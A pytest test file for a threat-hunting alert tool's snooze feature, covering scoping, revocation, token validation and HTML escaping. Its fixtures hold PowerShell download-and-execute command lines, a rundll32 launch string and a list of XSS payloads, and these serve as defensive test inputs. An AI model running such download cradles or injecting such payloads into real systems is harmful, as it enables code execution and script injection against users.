"""Issue 24's snooze defects, each through the real page, table (Azurite) and command line:
a snooze is scoped to hunt + device + identity and says so; an identity too broad gets no link;
removal revokes the link; a bad stored row, a bad key or an absurd token never stops a run."""
# ruff: noqa: F811  (the page and snooze_env fixtures are imported from tests.test_snooze)

from __future__ import annotations

import html
import json
import logging
import random
import secrets
import shutil
import zlib
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs, urlsplit

import pytest
from azure.data.tables import TableServiceClient

from devtools.webhook import WebhookReceiver
from shared.hunt import Hunt
from shared.settings import load_settings
from shared.storage import Storage
from shared.suppress.scope import snooze_values, too_broad
from shared.suppress.snooze_page import PageRequest, SnoozeContext, handle
from shared.suppress.store import LINKS, PARTITION, REMOVED, TABLE, Snooze, SnoozeStore
from shared.suppress.token import (
    VERSION,
    TokenError,
    _b64,
    _sign,
    finding_fingerprint,
    make_token,
    read_token,
)
from shared.suppress.wiring import build_suppressor, snooze_group, snooze_url
from tests.fanout_world import clear_tables
from tests.test_snooze import (  # noqa: F401  (fixtures)
    CRADLE_ID,
    KEY,
    REPO,
    get,
    huntwire,
    page,
    post,
    process_event,
    snooze_env,
    stored,
)

NETWORK_ID = "e070cadd-0a55-45dd-babc-ec48c438dc8d"
DEVICE = "3f2a" + "0" * 36
NOW = datetime.now(UTC)
SETTINGS = load_settings({"HUNTWIRE_STORAGE": "UseDevelopmentStorage=true",
                          "HUNTWIRE_SNOOZE_KEY": KEY.decode(),
                          "HUNTWIRE_PUBLIC_URL": "https://hw.example"})
NETWORK = Hunt(id=NETWORK_ID, name="Outbound connection hunt", query="x", source="defender",
               path=Path("net.yaml"))


def connection(device: str = DEVICE, name: str = "ws-fin-014", process: str = "rundll32.exe",
               command: str = r"rundll32.exe C:\Users\Public\update.dll,StartW",
               report: int = 1) -> dict[str, Any]:
    """A DeviceNetworkEvents row as an own hunt returns it (issue 20)."""
    return {"Timestamp": "2026-11-30T09:14:00Z", "DeviceId": device, "DeviceName": name,
            "ReportId": report, "InitiatingProcessFileName": process,
            "InitiatingProcessCommandLine": command, "InitiatingProcessParentFileName":
            "WINWORD.EXE", "RemoteIP": "203.0.113.66", "RemotePort": 443, "RemoteUrl": "",
            "AccountName": "jdoe"}


def token_of(url: str) -> str:
    return parse_qs(urlsplit(url).query)["t"][0]


def snooze_from_page(page: Any, link: tuple[str, str] | None, hunt_id: str) -> str:
    """POST the link's form the way a browser does; the snooze id it created."""
    assert link is not None
    token = token_of(link[1])
    claim = read_token(KEY, token, datetime.now(UTC))
    response = page(post({"t": token, "finding": finding_fingerprint(hunt_id, claim.values),
                          "reason": "vendor", "name": "Dana"}))
    assert response.status_code == 201, response.get_body()
    return f"snooze-{claim.fingerprint}"


# -- 3: scoped to hunt, device and identity; labelled; too broad -> no link ------------------

def test_a_network_snooze_silences_only_that_process_on_that_device(
        page: Any, snooze_env: WebhookReceiver, storage_connection_string: str,
        tmp_path: Path) -> None:
    row = connection()
    link = snooze_url(SETTINGS, NETWORK, row)
    assert link is not None
    assert link[0] == "Outbound connection hunt on ws-fin-014: rundll32.exe -> 203.0.113.66:443"
    snooze_from_page(page, snooze_url(SETTINGS, hunt_named(NETWORK_ID), row), NETWORK_ID)
    suppressor = build_suppressor(load_settings({"HUNTWIRE_STORAGE": storage_connection_string,
                                                 "HUNTWIRE_SUPPRESSIONS_DIR": str(tmp_path)}))
    others = ([connection(device=f"{n:040x}", name=f"ws-{n}", report=n) for n in range(50)]
              + [connection(process=p, command=f"{p} -x {n}", report=100 + n)
                 for n, p in enumerate(["powershell.exe", "rundll32.exe", "mshta.exe"] * 17)]
              )[:100]
    repeats = [connection(report=900 + n) for n in range(3)]
    result = suppressor.apply(hunt_named(NETWORK_ID), others + repeats, NOW.date())
    assert len(result.kept) == 100  # other devices, other processes: all still reported
    assert sum(result.suppressed.values()) == 3  # the same process, device and address
    other_hunt = hunt_named(CRADLE_ID)
    assert suppressor.apply(other_hunt, repeats, NOW.date()).suppressed == {}


def hunt_named(hunt_id: str) -> Hunt:
    from shared.hunt import load_hunts

    (hunt,) = [h for h in load_hunts(REPO / "hunts").hunts if h.id == hunt_id]
    return hunt


@pytest.mark.parametrize("row", [
    {"DeviceId": DEVICE, "InitiatingProcessFileName": "cmd.exe"},
    {"DeviceName": "ws-1", "InitiatingProcessFileName": "WINWORD.EXE", "Timestamp": "x"},
    {"DeviceId": DEVICE, "RemoteIP": "203.0.113.66", "RemotePort": 443},
    {"DeviceId": DEVICE, "ProcessCommandLine": '"C:\\Windows\\System32\\cmd.exe"'},
    {**connection(), "DeviceId": None, "DeviceName": ""},  # no device
    {"DeviceName": "ws-1", "ProcessTree": ["a", "b"], "Count": 4},  # a summarize row
])
def test_an_identity_too_broad_to_snooze_gets_no_link(row: dict[str, Any]) -> None:
    assert snooze_url(SETTINGS, NETWORK, row) is None
    assert too_broad(snooze_values(row)) is not None


def test_the_label_is_one_plain_line_naming_hunt_device_and_what() -> None:
    row = {"DeviceName": "ws-1\n**bold**\x1b[31m", "ProcessCommandLine": "powershell -c x\r\ny",
           "InitiatingProcessFileName": "[click](https://evil.example)"}
    link = snooze_url(SETTINGS, NETWORK, row)
    assert link is not None
    label = link[0]
    assert label.startswith("Outbound connection hunt on ws-1 **bold** [31m: this powershell")
    assert not any(ord(c) < 32 or 0x7f <= ord(c) <= 0x9f for c in label)
    assert len(label) <= 200
    huge = "powershell " + secrets.token_hex(20_000)  # a token too long for a link
    assert snooze_url(SETTINGS, NETWORK, {**row, "ProcessCommandLine": huge}) is None


def test_the_page_says_exactly_what_it_silences_escaped(
        page: Any, snooze_env: WebhookReceiver, storage_connection_string: str) -> None:
    row = process_event(1, NOW, 'powershell -c "iwr https://x.example/a.ps1" </td><b>x')
    row["DeviceName"] = "<img src=x onerror=alert(1)>"
    link = snooze_url(SETTINGS, hunt_named(CRADLE_ID), row)
    assert link is not None
    body = page(get(token_of(link[1]))).get_body().decode()
    assert "PowerShell download cradle and stager" in body
    assert "on device <b>&lt;img src=x onerror=alert(1)&gt;</b> only" in body
    assert "<img" not in body
    assert "&lt;/td&gt;&lt;b&gt;x" in body
    for column, value in snooze_values(row).items():  # every condition, device included
        assert f"<th>{column}</th>" in body
        assert str(value).replace('"', "&quot;").replace("<", "&lt;").replace(">", "&gt;") \
            in body
    assert "Other devices, and other values on this device, are still reported" in body
    assert stored(storage_connection_string) == []


def test_the_page_refuses_a_genuine_token_whose_identity_is_too_broad(
        page: Any, snooze_env: WebhookReceiver, storage_connection_string: str) -> None:
    broad = make_token(KEY, CRADLE_ID, {"InitiatingProcessFileName": "cmd.exe"},
                       datetime.now(UTC) + timedelta(days=7))
    response = page(get(broad))
    assert response.status_code == 403
    assert "silence too much" in response.get_body().decode()


# -- 4: removal revokes the link ----------------------------------------------------------

def test_a_removed_snooze_is_not_recreated_by_its_link_or_an_older_one(
        page: Any, snooze_env: WebhookReceiver, storage_connection_string: str) -> None:
    row = process_event(1, NOW, "powershell -w hidden -c \"iwr https://v.example/p.ps1|iex\"")
    hunt = hunt_named(CRADLE_ID)
    older = snooze_url(SETTINGS, hunt, row, now=datetime.now(UTC) - timedelta(hours=1))
    link = snooze_url(SETTINGS, hunt, row)
    assert link is not None
    assert older is not None
    snooze_id = snooze_from_page(page, link, CRADLE_ID)
    env = {"PATH": "/usr/bin:/bin", "HUNTWIRE_STORAGE": storage_connection_string}
    removed = huntwire(env, "suppressions", "remove", snooze_id)
    assert removed.returncode == 0, removed.stderr
    assert stored(storage_connection_string) == []
    fingerprint = snooze_id.removeprefix("snooze-")
    for url in (link[1], older[1]):
        form = {"t": token_of(url), "finding": fingerprint, "reason": "again", "name": "Eve"}
        again = page(post(form))
        assert again.status_code in (409, 410), again.get_body()
        assert page(get(token_of(url))).status_code == 410  # and the page says so on GET
    assert stored(storage_connection_string) == []
    assert len(snooze_env.payloads) == 1  # only the first snooze was announced
    # A new card after the removal (the finding came back) may snooze it again, on purpose.
    newer = snooze_url(SETTINGS, hunt, row, now=datetime.now(UTC) + timedelta(minutes=6))
    assert snooze_from_page(page, newer, CRADLE_ID) == snooze_id


def test_a_link_creates_at_most_one_snooze_even_after_it_expires(
        storage_connection_string: str, snooze_env: WebhookReceiver, page: Any) -> None:
    link = snooze_url(SETTINGS, hunt_named(CRADLE_ID), process_event(
        1, NOW, "powershell -enc AAAA"))
    snooze_id = snooze_from_page(page, link, CRADLE_ID)
    table = TableServiceClient.from_connection_string(storage_connection_string) \
        .get_table_client(TABLE)
    entity = table.get_entity(PARTITION, snooze_id)
    entity["Expires"] = (NOW - timedelta(days=2)).date().isoformat()  # it ran out
    table.update_entity(entity)
    assert link is not None
    claim = read_token(KEY, token_of(link[1]), datetime.now(UTC))
    again = page(post({"t": token_of(link[1]), "finding": claim.fingerprint, "reason": "r",
                       "name": "n"}))
    assert again.status_code == 409
    assert "already been used" in again.get_body().decode()


# -- 5: bad rows, bad keys, absurd tokens never stop a run ----------------------------------

def signed(body: dict[str, Any]) -> str:
    """A token with any payload, genuinely signed (as a leaked key or a bug would make)."""
    payload = _b64(zlib.compress(json.dumps(body).encode()))
    return f"{VERSION}.{payload}.{_b64(_sign(KEY, f'{VERSION}.{payload}'))}"


@pytest.mark.parametrize("expiry", [10**20, -(10**20), 2**63, "inf", 1e308])
def test_a_token_with_an_absurd_expiry_is_refused_not_a_crash(expiry: Any) -> None:
    token = signed({"h": CRADLE_ID, "v": {"DeviceId": DEVICE}, "e": expiry,
                    "n": "n" * 22})
    with pytest.raises(TokenError):
        read_token(KEY, token, NOW)


def test_a_token_that_lives_longer_than_a_link_is_refused() -> None:
    token = make_token(KEY, CRADLE_ID, {"DeviceId": DEVICE}, NOW + timedelta(days=365))
    with pytest.raises(TokenError, match="further ahead"):
        read_token(KEY, token, NOW)


def bad_rows(values: dict[str, str]) -> dict[str, dict[str, Any]]:
    """Hand-written or older rows, each of which would silence *values* if trusted."""
    good = {"PartitionKey": PARTITION, "Hunt": CRADLE_ID, "Where": json.dumps(values),
            "Reason": "r", "Owner": "o", "Created": NOW.isoformat(),
            "Expires": (NOW + timedelta(days=7)).date().isoformat()}
    return {
        "snooze-list-where": {**good, "Where": json.dumps([["ProcessCommandLine", "x"]])},
        "snooze-not-json": {**good, "Where": "{ProcessCommandLine: x"},
        "snooze-star-2099": {**good, "Hunt": "*", "Expires": "2099-01-01"},
        "snooze-past-cap": {**good, "Expires": (NOW + timedelta(days=90)).date().isoformat()},
        "snooze-future": {**good, "Created": "2099-01-01T00:00:00+00:00",
                          "Expires": "2099-01-20"},
        "snooze-no-device": {**good, "Where": json.dumps(
            {k: v for k, v in values.items() if k not in ("DeviceId", "DeviceName")})},
        "snooze-no-owner": {**good, "Owner": None},
        "snooze-bad-column": {**good, "Where": json.dumps({**values, "a b": "x"})},
        "snooze-deep": {**good, "Where": "[" * 5000 + "]" * 5000},
    }


def plant(connection_string: str, rows: dict[str, dict[str, Any]]) -> None:
    service = TableServiceClient.from_connection_string(connection_string)
    table = service.create_table_if_not_exists(TABLE)
    for row_key, entity in rows.items():
        table.upsert_entity({**{k: v for k, v in entity.items() if v is not None},
                             "RowKey": row_key})


def test_bad_rows_are_skipped_one_notice_each_and_list_never_tracebacks(
        storage_connection_string: str, caplog: pytest.LogCaptureFixture,
        snooze_env: WebhookReceiver, tmp_path: Path) -> None:
    values = snooze_values(process_event(1, NOW, "powershell -c x"))
    rows = bad_rows(values)
    plant(storage_connection_string, rows)
    settings = load_settings({"HUNTWIRE_STORAGE": storage_connection_string,
                              "HUNTWIRE_SUPPRESSIONS_DIR": str(tmp_path)})
    with caplog.at_level(logging.WARNING, logger="huntwire"):
        suppressor = build_suppressor(settings)
    assert suppressor.rules == []
    notices = [r.getMessage() for r in caplog.records if "skipped" in r.getMessage()]
    assert len(notices) == len(rows)
    for row_key in rows:
        assert sum(row_key in n for n in notices) == 1
    env = {"PATH": "/usr/bin:/bin", "HUNTWIRE_STORAGE": storage_connection_string}
    listed = huntwire(env, "suppressions", "list")
    assert listed.returncode == 0, listed.stderr
    assert "Traceback" not in listed.stderr
    assert f"{len(rows)} invalid row(s)" in listed.stdout
    as_json = json.loads(huntwire(env, "suppressions", "list", "--format", "json").stdout)
    assert {e["id"] for e in as_json if "error" in e} == set(rows)
    assert huntwire(env, "suppressions", "remove", "snooze-list-where").returncode == 0
    assert "snooze-list-where" not in {e["RowKey"] for e in stored(storage_connection_string)}


def test_run_once_survives_bad_rows_and_a_31_character_key(
        tmp_path: Path, storage_connection_string: str, snooze_env: WebhookReceiver) -> None:
    hunts = tmp_path / "hunts"
    hunts.mkdir()
    shutil.copy(REPO / "hunts" / "powershell-download-cradle-stager.yaml", hunts)
    clear_tables(storage_connection_string)  # a fresh ledger: other tests ran this event too
    now = datetime(2026, 11, 30, 10, tzinfo=UTC)
    row = process_event(1, now - timedelta(minutes=20),
                        "powershell -w hidden -c \"iwr https://198.51.100.7/a.ps1 | iex\"")
    plant(storage_connection_string, bad_rows(snooze_values(row)))
    events = tmp_path / "events.jsonl"
    events.write_text(json.dumps(row) + "\n")
    (tmp_path / "no-rules").mkdir()
    env = {"PATH": "/usr/bin:/bin", "HUNTWIRE_STORAGE": storage_connection_string,
           "HUNTWIRE_TEAMS_WEBHOOK_URL": snooze_env.url, "HUNTWIRE_HUNTS_DIR": str(hunts),
           "HUNTWIRE_SUPPRESSIONS_DIR": str(tmp_path / "no-rules"),
           "HUNTWIRE_SNOOZE_KEY": "s" * 31, "HUNTWIRE_PUBLIC_URL": "https://hw.example",
           "HUNTWIRE_HEARTBEAT_HOUR": "off"}
    done = huntwire(env, "run", "--once", "--format", "json", "--now", now.isoformat(),
                    "--events", f"DeviceProcessEvents={events}")
    assert done.returncode == 0, done.stderr
    assert "Traceback" not in done.stderr
    (hunt,) = json.loads(done.stdout)["hunts"]
    assert hunt["suppressed"] == {}  # no bad row was trusted, '*' and 2099 included
    assert (hunt["new"], hunt["posted"]) == (1, 1)
    assert done.stderr.count("shorter than 32 characters: snoozing is off") == 1
    assert "s" * 31 not in done.stderr + done.stdout
    assert "api/snooze" not in json.dumps(snooze_env.payloads)  # no link with a bad key


def test_a_31_character_key_turns_the_page_off_not_the_app(
        page: Any, snooze_env: WebhookReceiver, monkeypatch: pytest.MonkeyPatch) -> None:
    import function_app

    monkeypatch.setenv("HUNTWIRE_SNOOZE_KEY", "s" * 31)
    function_app.settings.cache_clear()
    response = page(get(make_token(KEY, CRADLE_ID, {"DeviceId": DEVICE, "FileName": "a.exe",
                                                    "RemoteUrl": "https://x.example"},
                                   datetime.now(UTC) + timedelta(days=1))))
    assert response.status_code == 503
    assert "s" * 31 not in response.get_body().decode()


def test_repr_of_the_snooze_context_never_shows_the_key() -> None:
    context = SnoozeContext(key=KEY, store=SnoozeStore(Storage.from_connection_string(
        "UseDevelopmentStorage=true")), hunt_names={})
    assert KEY.decode() not in repr(context)
    assert repr(KEY) not in repr(context)
    assert KEY.decode() not in repr(SETTINGS)


def test_rows_of_one_finding_on_one_device_share_one_snooze_group() -> None:
    hunt = hunt_named(NETWORK_ID)
    first, repeat = connection(report=1), connection(report=2)
    other_device = connection(device="b" * 40, name="ws-2")
    assert snooze_group(hunt, first) == snooze_group(hunt, repeat) is not None
    assert snooze_group(hunt, other_device) not in (None, snooze_group(hunt, first))
    assert snooze_group(hunt, {"DeviceId": DEVICE, "FileName": "cmd.exe"}) is None
    link = snooze_url(SETTINGS, hunt, first)
    assert link is not None
    claim = read_token(KEY, token_of(link[1]), datetime.now(UTC))
    assert snooze_group(hunt, first) == f"snooze-{claim.fingerprint}"


def test_spent_link_markers_are_dropped_once_their_link_has_expired(
        storage_connection_string: str, snooze_env: WebhookReceiver) -> None:
    table = TableServiceClient.from_connection_string(storage_connection_string) \
        .create_table_if_not_exists(TABLE)
    past, future = (NOW - timedelta(days=1)).isoformat(), (NOW + timedelta(days=1)).isoformat()
    for partition in (LINKS, REMOVED):
        table.upsert_entity({"PartitionKey": partition, "RowKey": "old" * 8, "Until": past})
        table.upsert_entity({"PartitionKey": partition, "RowKey": "new" * 8, "Until": future})
    values = snooze_values(process_event(1, NOW, "powershell -c x"))
    store = SnoozeStore(Storage.from_connection_string(storage_connection_string))
    assert store.add(Snooze("snooze-" + "0" * 16, CRADLE_ID, values, "r", "o", NOW,
                            (NOW + timedelta(days=1)).date(), "l" * 22),
                     NOW + timedelta(days=7))
    left = {(e["PartitionKey"], e["RowKey"]) for e in table.list_entities()}
    assert (LINKS, "old" * 8) not in left
    assert (REMOVED, "old" * 8) not in left
    assert {(LINKS, "new" * 8), (REMOVED, "new" * 8), (LINKS, "l" * 22)} <= left


def test_suppressions_list_without_storage_is_one_clear_line() -> None:
    done = huntwire({"PATH": "/usr/bin:/bin"}, "suppressions", "list")
    assert done.returncode == 2
    assert "Traceback" not in done.stderr
    assert "HUNTWIRE_STORAGE" in done.stderr


HOSTILE = ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "[x](https://evil)",
           "**b**", "\x1b[2J", "a\nb\r\nc", "\u2028x\u2029", "\x00\x07\x9b", "&amp;&lt;",
           '"\'><svg/onload=1>', "javascript:alert(1)", "é漢字🙂", "x" * 3000, " ", "\t"]


def hostile(rng: random.Random) -> str:
    return "".join(rng.choice(HOSTILE) for _ in range(rng.randint(1, 4)))


def test_labels_and_pages_stay_plain_and_escaped_for_hostile_values(
        storage_connection_string: str) -> None:
    rng = random.Random(24)
    store = SnoozeStore(Storage.from_connection_string(storage_connection_string))
    name = "Outbound <b>hunt</b>"
    context = SnoozeContext(KEY, store, {NETWORK_ID: name})
    links = 0
    for _ in range(60):
        row = {column: hostile(rng) for column in (
            "DeviceName", "ProcessCommandLine", "InitiatingProcessFileName", "RemoteUrl",
            "RemoteIP") if rng.random() < 0.8}
        link = snooze_url(SETTINGS, NETWORK, row)
        if link is None:
            continue
        links += 1
        label, url = link
        assert label == " ".join(label.split())  # one line, no runs of spaces
        assert not any(ord(c) < 32 or 0x7f <= ord(c) <= 0x9f or c in "\u2028\u2029"
                       for c in label)
        assert len(label) <= 200
        body = handle(PageRequest("GET", {"t": token_of(url)}), context).body
        for tag in ("<script", "<img", "<svg", "<b>hunt"):
            assert tag not in body
        assert html.escape(name) in body
    assert links >= 10  # the fuzz reached the page
